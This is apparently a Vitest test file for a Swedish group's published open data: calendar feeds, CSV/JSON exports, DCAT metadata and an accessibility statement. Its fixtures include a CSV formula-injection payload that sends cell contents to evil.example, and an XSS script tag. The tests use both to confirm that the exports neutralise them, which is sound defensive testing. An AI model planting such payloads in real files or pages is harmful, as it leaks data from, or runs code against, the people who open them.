// A published group's open data, calendar feed and metadata, read back with other libraries than the
// ones that wrote them: ical.js for the calendars, csv-parse for the CSV, an RDF/XML parser for DCAT.
// And the accessibility statement, in both languages.
import { parse as parseCsv } from "csv-parse/sync";
import ICAL from "ical.js";
import { pino } from "pino";
import { RdfXmlParser } from "rdfxml-streaming-parser";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { fixedClock } from "../../../src/core/clock.ts";
import type { Database } from "../../../src/db/open-database.ts";
import { createWebApp } from "../../../src/platforms/web/app.ts";
import { openDataLinks } from "../../../src/platforms/web/open-data/links.ts";
import { type DemoData, loadDemo, readDemo } from "../../../src/services/demo.ts";
import { sv } from "../../../src/texts/sv.ts";
import { createTestDatabase, testDatabaseKinds } from "../../support/test-database.ts";

const SLUG = "samverkansradet-orebro";
const BASE = `/g/${SLUG}`;
const HOSTILE_FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"klicka")';
const HOSTILE_SCRIPT = "<script>alert('x')</script> & mer";
const HIDDEN = "Det här ska inte synas utåt";

interface Quad {
  subject: { value: string };
  predicate: { value: string };
  object: { value: string; termType: string; language?: string };
}

function parseRdf(text: string): Promise<Quad[]> {
  return new Promise((resolve, reject) => {
    const quads: Quad[] = [];
    const parser = new RdfXmlParser({ baseIRI: "http://lok.test/" });
    parser.on("data", (q: Quad) => quads.push(q));
    parser.on("error", reject);
    parser.on("end", () => resolve(quads));
    parser.write(text);
    parser.end();
  });
}

/** The events of an iCalendar text, its time zones registered so that times convert to UTC. */
function parseIcs(text: string) {
  const cal = new ICAL.Component(ICAL.parse(text));
  const zones = cal.getAllSubcomponents("vtimezone");
  for (const z of zones) ICAL.TimezoneService.register(z);
  const events = cal.getAllSubcomponents("vevent").map((v) => ({
    vevent: v,
    event: new ICAL.Event(v),
    status: v.getFirstPropertyValue("status"),
    sequence: Number(v.getFirstPropertyValue("sequence")),
    stamp: v.getFirstProperty("dtstamp"),
  }));
  return { cal, zones, events };
}

describe.each(testDatabaseKinds())("open data on %s", (kind) => {
  let db: Database;
  let app: ReturnType<typeof createWebApp>;
  let demo: DemoData;
  let groupId: number;
  let spring: { before: number; after: number; cancelled: number };
  beforeAll(async () => {
    db = await createTestDatabase(kind);
    const clock = fixedClock("2026-11-23T09:00:00Z");
    demo = await readDemo();
    groupId = await loadDemo(db.prisma, demo, clock.now());
    const other = await db.prisma.group.create({
      data: { name: "Hemliga gruppen", webSlug: "hemliga-gruppen", webPublished: false },
    });
    await db.prisma.meeting.create({
      data: { groupId: other.id, title: "Hemligt möte", startsAt: new Date("2027-01-10T17:00:00Z") },
    });
    // Both sides of the spring DST change (2027-03-28): 18:00 in Stockholm is 17:00Z, then 16:00Z.
    const updatedAt = new Date("2026-11-20T08:00:00Z");
    const before = await db.prisma.meeting.create({
      data: {
        groupId,
        title: "Samverkansrådet, extra",
        startsAt: new Date("2027-03-25T17:00:00Z"),
        endsAt: new Date("2027-03-25T19:00:00Z"),
        place: "Föreningarnas hus; sal 2, <b>övre</b>",
        sequence: 1,
        updatedAt,
      },
    });
    const after = await db.prisma.meeting.create({
      data: { groupId, title: "Samverkansrådet", startsAt: new Date("2027-04-01T16:00:00Z"), updatedAt },
    });
    const cancelled = await db.prisma.meeting.create({
      data: {
        groupId,
        title: "Inställt möte",
        startsAt: new Date("2027-02-04T17:00:00Z"),
        sequence: 2,
        updatedAt,
        cancelledAt: updatedAt,
      },
    });
    spring = { before: before.id, after: after.id, cancelled: cancelled.id };
    // Hostile and hidden comments on activity 1.
    const activity = await db.prisma.activity.findFirstOrThrow({
      where: { plan: { groupId }, number: 1 },
    });
    const author = await db.prisma.member.findFirstOrThrow({ where: { groupId, name: "Anna Fogel" } });
    await db.prisma.member.update({ where: { id: author.id }, data: { email: "anna.fogel@orebro.example" } });
    const base = { activityId: activity.id, authorId: author.id, source: "slack", status: "pagar" as const };
    await db.prisma.statusUpdate.createMany({
      data: [
        {
          ...base,
          comment: HOSTILE_FORMULA,
          idempotencyKey: "t1",
          createdAt: new Date("2026-11-20T09:00:00Z"),
        },
        {
          ...base,
          comment: HOSTILE_SCRIPT,
          idempotencyKey: "t2",
          createdAt: new Date("2026-11-20T09:01:00Z"),
        },
        {
          ...base,
          comment: HIDDEN,
          idempotencyKey: "t3",
          createdAt: new Date("2026-11-20T09:02:00Z"),
          hiddenAt: new Date("2026-11-21T09:00:00Z"),
        },
      ],
    });
    app = createWebApp({ prisma: db.prisma, clock, logger: pino({ level: "silent" }) }, { env: {} });
  });
  afterAll(async () => {
    await db?.close();
  });

  const get = (path: string) => app.request(`http://lok.test${path}`);

  function expectNoPersonalData(text: string) {
    for (const m of demo.members) expect(text, m.name).not.toContain(m.name);
    expect(text).not.toContain("@orebro.example");
    expect(text).not.toContain(HIDDEN);
  }

  describe("calendar", () => {
    it("gives each meeting a stable UID, its SEQUENCE, its status and local times across DST", async () => {
      const res = await get(`${BASE}/kalender.ics`);
      expect(res.status).toBe(200);
      expect(res.headers.get("content-type")).toBe("text/calendar; charset=utf-8");
      expect(res.headers.get("access-control-allow-origin")).toBe("*");
      const text = await res.text();
      expect(text).not.toContain("Hemligt");
      const { zones, events } = parseIcs(text);
      expect(zones.map((z) => z.getFirstPropertyValue("tzid"))).toEqual(["Europe/Stockholm"]);
      const byUid = new Map(events.map((e) => [e.event.uid, e]));
      // The demo's three meetings and the three added here.
      expect(events).toHaveLength(6);

      const before = byUid.get(`meeting-${spring.before}@lok.test`);
      const after = byUid.get(`meeting-${spring.after}@lok.test`);
      const cancelled = byUid.get(`meeting-${spring.cancelled}@lok.test`);
      expect(before && after && cancelled).toBeTruthy();
      if (!before || !after || !cancelled) return;
      for (const e of [before, after]) {
        expect(e.event.startDate.zone?.tzid).toBe("Europe/Stockholm");
        expect(e.event.startDate.hour).toBe(18);
        expect(e.event.startDate.minute).toBe(0);
      }
      expect(before.event.startDate.toJSDate().toISOString()).toBe("2027-03-25T17:00:00.000Z");
      expect(before.event.endDate.toJSDate().toISOString()).toBe("2027-03-25T19:00:00.000Z");
      expect(after.event.startDate.toJSDate().toISOString()).toBe("2027-04-01T16:00:00.000Z");
      expect(before.event.location).toBe("Föreningarnas hus; sal 2, <b>övre</b>");
      expect(before.sequence).toBe(1);
      expect(before.status).toBe("CONFIRMED");
      expect(cancelled.sequence).toBe(2);
      expect(cancelled.status).toBe("CANCELLED");
      // DTSTAMP is UTC, from the meeting's last change.
      expect(String(before.stamp?.getFirstValue())).toBe("2026-11-20T08:00:00Z");
      expect(String(before.vevent.getFirstPropertyValue("last-modified"))).toBe("2026-11-20T08:00:00Z");
    });

    it("serves one meeting as its own .ics with the same UID, and 404 for another group's meeting", async () => {
      const res = await get(`${BASE}/moten/${spring.after}.ics`);
      expect(res.status).toBe(200);
      expect(res.headers.get("content-type")).toBe("text/calendar; charset=utf-8");
      const { events, zones } = parseIcs(await res.text());
      expect(zones).toHaveLength(1);
      expect(events.map((e) => e.event.uid)).toEqual([`meeting-${spring.after}@lok.test`]);
      const foreign = await db.prisma.meeting.findFirstOrThrow({ where: { title: "Hemligt möte" } });
      expect((await get(`${BASE}/moten/${foreign.id}.ics`)).status).toBe(404);
      expect((await get(`${BASE}/moten/999999.ics`)).status).toBe(404);
      expect((await get(`${BASE}/moten/abc.ics`)).status).toBe(404);
    });

    it("lists upcoming and past meetings on the meetings page, with their .ics and the webcal feed", async () => {
      const res = await get(`${BASE}/moten`);
      expect(res.status).toBe(200);
      const body = await res.text();
      expect(body).toContain('<html lang="sv">');
      expect(body.indexOf("Kommande möten")).toBeLessThan(body.indexOf("Tidigare möten"));
      expect(body).toContain(`href="${BASE}/moten/${spring.after}.ics"`);
      expect(body).toContain('href="webcal://lok.test/g/samverkansradet-orebro/kalender.ics"');
      expect(body).toContain("torsdag 1 apr 2027 kl. 18:00");
      expect(body).toContain("torsdag 25 mars 2027 kl. 18:00–20:00");
      expect(body).toContain("(Inställt)");
      expect(body).toContain("Föreningarnas hus; sal 2, &lt;b&gt;övre&lt;/b&gt;");
      expect(body).not.toContain("<script");
      expect(body).toContain('rel="alternate" type="application/rdf+xml"');
      expectNoPersonalData(body);
    });
  });

  describe("files", () => {
    it("writes the same activities to CSV and JSON as the database has, without persons", async () => {
      const csvRes = await get(`${BASE}/data/aktiviteter.csv`);
      const jsonRes = await get(`${BASE}/data/aktiviteter.json`);
      expect(csvRes.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
      expect(jsonRes.headers.get("content-type")).toBe("application/json; charset=utf-8");
      for (const r of [csvRes, jsonRes]) expect(r.headers.get("access-control-allow-origin")).toBe("*");
      const bytes = new Uint8Array(await csvRes.arrayBuffer());
      expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const csvText = new TextDecoder().decode(bytes);
      expect(csvText).toContain("\r\n");
      const jsonText = await jsonRes.text();
      expectNoPersonalData(csvText);
      expectNoPersonalData(jsonText);

      const rows: string[][] = parseCsv(csvText, { bom: true, delimiter: ";", relax_column_count: false });
      const json = JSON.parse(jsonText);
      expect(json.licence).toEqual({
        id: "CC0-1.0",
        uri: "http://creativecommons.org/publicdomain/zero/1.0/",
      });
      expect(rows[0]).toEqual(json.columns.map((c: { title: string }) => c.title));
      expect(rows[0]).toContain("Åtagande");
      expect(rows[0]).not.toContain("Ansvarig person");
      const keys: string[] = json.columns.map((c: { key: string }) => c.key);
      expect(keys).not.toContain("owners");
      expect(rows.slice(1)).toEqual(
        json.rows.map((r: Record<string, unknown>) => keys.map((k) => (r[k] === null ? "" : String(r[k])))),
      );

      const stored = await db.prisma.activity.findMany({
        where: { plan: { groupId } },
        orderBy: { number: "asc" },
      });
      expect(json.rows.map((r: { number: number }) => r.number)).toEqual(stored.map((a) => a.number));
      expect(json.rows.map((r: { title: string }) => r.title)).toEqual(stored.map((a) => a.title));
      expect(json.rows.map((r: { status: string }) => r.status)).toEqual(
        stored.map((a) => sv.status.label[a.status]),
      );
      const due = stored.find((a) => a.dueDate);
      const dueRow = json.rows.find((r: { number: number }) => r.number === due?.number);
      expect(dueRow.dueDate).toBe(due?.dueDate?.toISOString().slice(0, 10));
    });

    it("keeps hostile text as data: a formula is guarded in CSV, a script is a plain string in JSON", async () => {
      const csvText = await (await get(`${BASE}/data/statushistorik.csv`)).text();
      const jsonRes = await get(`${BASE}/data/statushistorik.json`);
      expect(jsonRes.headers.get("access-control-allow-origin")).toBe("*");
      const json = JSON.parse(await jsonRes.text());
      expectNoPersonalData(csvText);
      const rows: string[][] = parseCsv(csvText, { bom: true, delimiter: ";" });
      const comment = rows[0]?.indexOf("Kommentar") ?? -1;
      expect(comment).toBeGreaterThan(-1);
      const comments = rows.slice(1).map((r) => r[comment]);
      expect(comments).toContain(`'${HOSTILE_FORMULA}`);
      expect(comments).not.toContain(HOSTILE_FORMULA);
      expect(comments).toContain(HOSTILE_SCRIPT);
      const jsonComments = json.rows.map((r: { comment: string | null }) => r.comment);
      expect(jsonComments).toContain(HOSTILE_FORMULA);
      expect(jsonComments).toContain(HOSTILE_SCRIPT);
      // The hidden update keeps its status change, without its comment.
      const stored = await db.prisma.statusUpdate.count({ where: { activity: { plan: { groupId } } } });
      expect(json.rows).toHaveLength(stored);
      expect(rows).toHaveLength(stored + 1);
      expect(json.rows.map((r: Record<string, unknown>) => Object.keys(r))[0]).not.toContain("author");
      const at = json.rows.find((r: { comment: string }) => r.comment === HOSTILE_FORMULA).at;
      expect(at).toBe("2026-11-20T10:00:00+01:00");
      expect(json.rows.every((r: { source: string }) => typeof r.source === "string")).toBe(true);
      // Every other field is the JSON's value, as text.
      const keys: string[] = json.columns.map((c: { key: string }) => c.key);
      rows.slice(1).forEach((r, i) => {
        const j = json.rows[i];
        keys.forEach((k, n) => {
          const v = j[k] === null ? "" : String(j[k]);
          expect(r[n]).toBe(/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);
        });
      });
    });

    it("documents the columns, the format and the licence on the data page", async () => {
      const res = await get(`${BASE}/data`);
      expect(res.status).toBe(200);
      const body = await res.text();
      expect(body).toContain('href="https://creativecommons.org/publicdomain/zero/1.0/deed.sv"');
      for (const f of ["aktiviteter.csv", "aktiviteter.json", "statushistorik.csv", "dcat.rdf"])
        expect(body).toContain(`href="${BASE}/data/${f}"`);
      expect(body).toContain("<code>responsibleOrg</code>");
      expect(body).toContain("byteordningsmarkering (BOM)");
      expect(body).toContain("semikolon");
      expect(body).not.toContain("<code>owners</code>");
      expectNoPersonalData(body);
    });
  });

  describe("DCAT-AP-SE", () => {
    it("describes a catalogue with both datasets, their publisher, contact, licence and distributions", async () => {
      const res = await get(`${BASE}/data/dcat.rdf`);
      expect(res.status).toBe(200);
      expect(res.headers.get("content-type")).toBe("application/rdf+xml; charset=utf-8");
      expect(res.headers.get("access-control-allow-origin")).toBe("*");
      const quads = await parseRdf(await res.text());
      const DCAT = "http://www.w3.org/ns/dcat#";
      const DCT = "http://purl.org/dc/terms/";
      const RDF_TYPE = "http://www.w3.org/1999/02/22-rdf-syntax-ns#type";
      const VCARD = "http://www.w3.org/2006/vcard/ns#";
      const FOAF = "http://xmlns.com/foaf/0.1/";
      const objects = (s: string, p: string) => [
        ...new Set(
          quads.filter((q) => q.subject.value === s && q.predicate.value === p).map((q) => q.object.value),
        ),
      ];
      const ofType = (type: string) => [
        ...new Set(
          quads
            .filter((q) => q.predicate.value === RDF_TYPE && q.object.value === type)
            .map((q) => q.subject.value),
        ),
      ];

      const data = "http://lok.test/g/samverkansradet-orebro/data";
      expect(ofType(`${DCAT}Catalog`)).toEqual([`${data}#catalog`]);
      const datasets = objects(`${data}#catalog`, `${DCAT}dataset`).sort();
      expect(datasets).toEqual([`${data}#aktiviteter`, `${data}#statushistorik`]);
      expect(ofType(`${DCAT}Dataset`).sort()).toEqual(datasets);
      expect(objects(`${data}#catalog`, `${DCT}title`)).toEqual(["Öppna data från Samverkansrådet Örebro"]);
      for (const ds of datasets) {
        expect(objects(ds, `${DCT}title`)[0]).toContain("Handlingsplan 2017–2018");
        expect(objects(ds, `${DCT}description`)).toHaveLength(1);
        expect(objects(ds, `${DCT}license`)).toEqual(["http://creativecommons.org/publicdomain/zero/1.0/"]);
        const [publisher] = objects(ds, `${DCT}publisher`);
        expect(objects(publisher ?? "", RDF_TYPE)).toEqual([`${FOAF}Agent`]);
        expect(objects(publisher ?? "", `${FOAF}name`)).toEqual(["Samverkansrådet Örebro"]);
        const [contact] = objects(ds, `${DCAT}contactPoint`);
        expect(objects(contact ?? "", RDF_TYPE)).toContain(`${VCARD}Kind`);
        expect(objects(contact ?? "", `${VCARD}fn`)).toEqual(["Samverkansrådet Örebro"]);
        expect(objects(contact ?? "", `${VCARD}hasURL`)).toEqual([
          "http://lok.test/g/samverkansradet-orebro",
        ]);
        const distributions = objects(ds, `${DCAT}distribution`);
        expect(distributions).toHaveLength(2);
        const types = distributions.map((d) => objects(d, `${DCAT}mediaType`)[0]).sort();
        expect(types).toEqual([
          "http://www.iana.org/assignments/media-types/application/json",
          "http://www.iana.org/assignments/media-types/text/csv",
        ]);
        for (const d of distributions) {
          const [download] = objects(d, `${DCAT}downloadURL`);
          expect(download).toMatch(new RegExp(`^${data}/(aktiviteter|statushistorik)\\.(csv|json)$`));
          expect(objects(d, `${DCAT}accessURL`)).toEqual([download]);
          expect(objects(d, `${DCT}format`)[0]).toMatch(
            /^http:\/\/publications\.europa\.eu\/resource\/authority\/file-type\/(CSV|JSON)$/,
          );
          expect((await get(new URL(download ?? "").pathname)).status).toBe(200);
        }
      }
    });

    it("takes the contact's e-mail, escapes the group's own text, and uses PUBLIC_URL when set", async () => {
      await db.prisma.group.update({
        where: { id: groupId },
        data: { webContact: 'Rådet <"&"> – kansliet@orebro.example', webLicence: "CC-BY-4.0" },
      });
      try {
        const site = createWebApp(
          { prisma: db.prisma, clock: fixedClock("2026-11-23T09:00:00Z"), logger: pino({ level: "silent" }) },
          { env: { PUBLIC_URL: "https://lok.example.se/" } },
        );
        const text = await (await site.request(`http://intern:3000${BASE}/data/dcat.rdf`)).text();
        expect(text).not.toContain("intern:3000");
        const quads = await parseRdf(text);
        const contact = quads.find((q) => q.predicate.value === "http://www.w3.org/2006/vcard/ns#fn");
        expect(contact?.object.value).toBe('Rådet <"&"> – kansliet@orebro.example');
        const email = quads.find((q) => q.predicate.value === "http://www.w3.org/2006/vcard/ns#hasEmail");
        expect(email?.object.value).toBe("mailto:kansliet@orebro.example");
        expect(quads.some((q) => q.object.value === "http://creativecommons.org/licenses/by/4.0/")).toBe(
          true,
        );
        expect(quads.some((q) => q.subject.value.startsWith("https://lok.example.se/g/"))).toBe(true);
      } finally {
        await db.prisma.group.update({
          where: { id: groupId },
          data: { webContact: null, webLicence: "CC0-1.0" },
        });
      }
    });
  });

  it("shows names only when the group says so", async () => {
    await db.prisma.group.update({ where: { id: groupId }, data: { webShowNames: true } });
    try {
      const json = JSON.parse(await (await get(`${BASE}/data/aktiviteter.json`)).text());
      expect(json.columns.map((c: { key: string }) => c.key)).toContain("owners");
      expect(JSON.stringify(json.rows)).toContain("Anna Fogel");
      const history = await (await get(`${BASE}/data/statushistorik.csv`)).text();
      expect(history).toContain("Anna Fogel");
      expect(history).not.toContain("@orebro.example");
      expect(history).not.toContain(HIDDEN);
    } finally {
      await db.prisma.group.update({ where: { id: groupId }, data: { webShowNames: false } });
    }
  });

  it("answers 404 for an unpublished or unknown group on every route", async () => {
    for (const slug of ["hemliga-gruppen", "finns-inte"]) {
      for (const path of [
        "/moten",
        "/kalender.ics",
        "/moten/1.ics",
        "/data",
        "/data/aktiviteter.csv",
        "/data/aktiviteter.json",
        "/data/statushistorik.csv",
        "/data/statushistorik.json",
        "/data/dcat.rdf",
      ]) {
        const res = await get(`/g/${slug}${path}`);
        expect(res.status, `${slug}${path}`).toBe(404);
        const text = await res.text();
        expect(text).not.toContain("Hemlig");
        expect(res.headers.get("access-control-allow-origin")).toBeNull();
      }
    }
  });

  it("exports the <link rel=alternate> elements for the group's page", async () => {
    const links = String(await openDataLinks(sv, SLUG));
    expect(links).toContain(`<link rel="alternate" type="application/rdf+xml" href="${BASE}/data/dcat.rdf"`);
    expect(links).toContain(`type="text/csv" href="${BASE}/data/aktiviteter.csv"`);
    expect(links).toContain(`type="application/json" href="${BASE}/data/aktiviteter.json"`);
  });

  describe("accessibility statement", () => {
    it("says in Swedish who publishes it, how compliant it is and why, how it was tested, and where to complain", async () => {
      const res = await get("/tillganglighet");
      expect(res.status).toBe(200);
      const body = await res.text();
      expect(body).toContain('<html lang="sv">');
      expect(body).toContain("<h1>Tillgänglighetsredogörelse</h1>");
      expect(body).toContain("Organisationen som driver den här LÖK-boten");
      expect(body).toContain("delvis förenlig med lagen om tillgänglighet till digital offentlig service");
      expect(body).toContain("Innehåll som inte är tillgängligt");
      expect(body).toContain("PDF-filer");
      expect(body).toContain("axe-core");
      expect(body).toContain("Chromium");
      expect(body).toContain("tangentbord");
      expect(body).toContain("självskattning");
      expect(body).toContain("Senaste bedömningen gjordes den 3 dec 2026.");
      expect(body).toContain("Redogörelsen uppdaterades senast den 3 dec 2026.");
      expect(body).toContain('href="https://www.digg.se/tdosanmalan"');
      expect(body).toContain("Kontakta gruppen");
    });

    it("says it in English, with LOK_PUBLISHER and the contact", async () => {
      const site = createWebApp(
        { prisma: db.prisma, clock: fixedClock("2026-11-23T09:00:00Z"), logger: pino({ level: "silent" }) },
        { env: { LOK_LOCALE: "en", LOK_PUBLISHER: "Örebro <kommun>", LOK_CONTACT: "lok@orebro.example" } },
      );
      const body = await (await site.request("/tillganglighet")).text();
      expect(body).toContain('<html lang="en">');
      expect(body).toContain("<h1>Accessibility statement</h1>");
      expect(body).toContain("Örebro &lt;kommun&gt; is responsible for this website");
      expect(body).toContain("partially compliant");
      expect(body).toContain("not audited by hand");
      expect(body).toContain("axe-core");
      expect(body).toContain("Contact: lok@orebro.example");
      expect(body).toContain("The latest assessment was made on");
      expect(body).toContain("This statement was last updated on");
      expect(body).toContain('href="https://www.digg.se/tdosanmalan"');
    });
  });
});
